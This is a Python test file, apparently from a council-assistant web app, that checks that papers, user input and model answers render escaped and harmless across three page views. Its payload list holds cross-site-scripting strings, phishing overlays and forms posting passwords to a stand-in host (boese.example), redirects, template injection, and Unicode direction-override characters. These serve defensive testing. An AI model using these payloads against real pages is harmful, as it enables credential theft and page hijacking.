"""What papers, persons and models may write into any view of the page: all of it is shown, nothing of it does anything."""

from __future__ import annotations

import re

import harmless
import pytest
import test_page
import test_page_register
import test_page_search

from ratsassistent.output.page_text import safe

EVIL = [
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><rect/></a></svg>",
    "<a href='javascript:alert(1)'>klick</a> [klick](javascript:alert(1))",
    "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe><object data=x></object><embed src=x>",
    "<style>body{display:none} @import url(http://boese.example/)</style><link rel=stylesheet href=http://boese.example/>",
    "<div style='position:fixed;inset:0;background:url(http://boese.example/x)'>Bitte hier anmelden</div>",
    "<form action=http://boese.example/><input name=kennwort><button formaction=http://boese.example/>Weiter</button></form>",
    "![bild](http://boese.example/zaehler.png) <http://boese.example/> [x]: http://boese.example/",
    "<base href=http://boese.example/><meta http-equiv=refresh content='0;url=http://boese.example/'>",
    "--></script></style></textarea></title><script>alert(1)</script><!--",
    "<img/src=x/onerror=alert(1)> <details open ontoggle=alert(1)> <video><source onerror=alert(1)></video>",
    "'\"`><script>alert(1)</script> {{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e; \\u003cscript\\u003e %3Cscript%3E",
    "\" data-do=\"delete\" data-local=\"x\" id=\"ra-item\" onmouseover=\"alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]  # fmt: skip
TURNS = "Der Rat lehnt \u202enie\u202c ab, \u2066Kosten\u2069 \u200f000.05\u200e Euro\u061c"
VIEWS = {"Lesen": test_page, "Suche": test_page_search, "Beschlüsse": test_page_register}


@pytest.mark.parametrize("view", VIEWS)
def test_nothing_in_a_paper_or_an_answer_does_anything(view: str) -> None:
    looks = test_page.is_harmless if view == "Lesen" else harmless.is_harmless
    for evil in EVIL:
        made = list(VIEWS[view].everything_with(evil))
        assert all(looks(html) for html in made), evil
        assert any(safe(evil) in html for html in made), "and it is shown"


@pytest.mark.parametrize("view", VIEWS)
def test_no_text_turns_the_order_of_a_sentence(view: str) -> None:
    for html in VIEWS[view].everything_with(TURNS):
        assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", html)
